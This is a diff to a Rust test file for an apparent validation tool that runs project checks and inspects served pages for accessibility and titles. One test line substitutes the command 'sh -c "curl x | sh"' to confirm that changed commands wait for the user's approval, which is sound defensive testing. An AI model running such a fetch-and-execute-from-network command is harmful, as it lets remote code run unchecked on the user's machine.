@@ -142,7 +142,7 @@ fn a_checks_command_runs_only_with_the_users_leave() {
     assert!(status(&shell).contains("  build: npm run build  (in .)"), "{}", status(&shell));
     let hash = facts.commands_hash.unwrap();
     // Another command is shown first.
-    let mut other = asks.clone();
+    let mut other = asks;
     other.checks[0].command = vec!["sh".to_owned(), "-c".to_owned(), "curl x | sh".to_owned()];
     let events = shell.run.resume(&other, std::slice::from_ref(&hash)).unwrap();
     assert_eq!(carry_out(&mut shell, events), Outcome::Partial, "it waits on");
@@ -163,4 +163,58 @@ fn the_leave_for_servers_alone_has_the_hash_that_it_had_before_there_were_checks
     let shell = run_of(opened(subject(), asks.clone()), &honest, &well);
     let hash = sha256(&serde_json::to_string(&asks.servers).unwrap());
     assert_eq!(shell.run.summary().unwrap().own.commands_hash, Some(hash));
+}
+
+fn looking() -> ValidationSettings {
+    ValidationSettings { a11y: true, metadata: true, ..settings() }
+}
+
+#[test]
+fn pages_that_tests_came_to_are_looked_at_while_the_servers_run() {
+    let shell = run_of(opened(subject(), looking()), &honest, &well);
+    assert_eq!(commanded(&shell)[..6], ["list", "start", "test", "test", "look", "stop"]);
+    let look = shell.effects_asked.iter().find_map(|effect| match effect {
+        Effect::LookAtPages { pages, a11y: true, .. } => Some(pages),
+        _ => None,
+    });
+    assert_eq!(look.unwrap()[..], ["http://127.0.0.1:4711/", "http://127.0.0.1:4711/sign-in"]);
+    let last = shell.json("FINAL-VALIDATION.json");
+    assert_eq!(last["outcome"], "validated");
+    assert_eq!((&last["checks"][0]["id"], &last["checks"][1]["id"]), (&json!("a11y"), &json!("metadata")));
+    assert_eq!(last["pages"]["pages"][0]["title"], "Sign in");
+}
+
+#[test]
+fn what_is_found_on_a_page_fails_and_what_could_not_be_looked_for_is_incomplete() {
+    let seen = |page: fn(PageSeen) -> PageSeen, axe: bool| {
+        move |effect: &Effect| match effect {
+            Effect::LookAtPages { effect, pages, .. } => {
+                let pages = pages.iter().map(|url| page(page_seen(url))).collect();
+                let axe = axe.then(|| "4.14.1".to_owned());
+                Decision::PagesSeen { effect: *effect, seen: LookedAt::Pages { pages, axe } }
+            }
+            _ => well(effect),
+        }
+    };
+    let untitled = seen(|page| PageSeen { title: None, ..page }, true);
+    let shell = run_of(opened(subject(), looking()), &honest, &untitled);
+    assert_eq!(shell.json("FINAL-VALIDATION.json")["outcome"], "failed");
+    assert_eq!(verdicts(&shell), ["met", "met"]);
+    for name in ["FINAL-VALIDATION.md", "report.html"] {
+        let text = &shell.files[name];
+        assert!(text.contains("http://127.0.0.1:4711/sign-in: it has no title"), "{name}: {text}");
+    }
+    let without_axe = seen(|page| page, false);
+    let shell = run_of(opened(subject(), looking()), &honest, &without_axe);
+    assert_eq!(shell.json("FINAL-VALIDATION.json")["outcome"], "incomplete");
+    assert!(shell.files["FINAL-VALIDATION.md"].contains("`npm install --save-dev axe-core`"));
+    let unable = |effect: &Effect| match effect {
+        Effect::LookAtPages { effect, .. } => {
+            Decision::PagesSeen { effect: *effect, seen: LookedAt::Unreadable { message: "no".to_owned() } }
+        }
+        _ => well(effect),
+    };
+    let shell = run_of(opened(subject(), looking()), &honest, &unable);
+    assert_eq!(shell.json("FINAL-VALIDATION.json")["outcome"], "incomplete");
+    assert_eq!(verdicts(&shell), ["met", "met"], "the control ran all the same");
 }
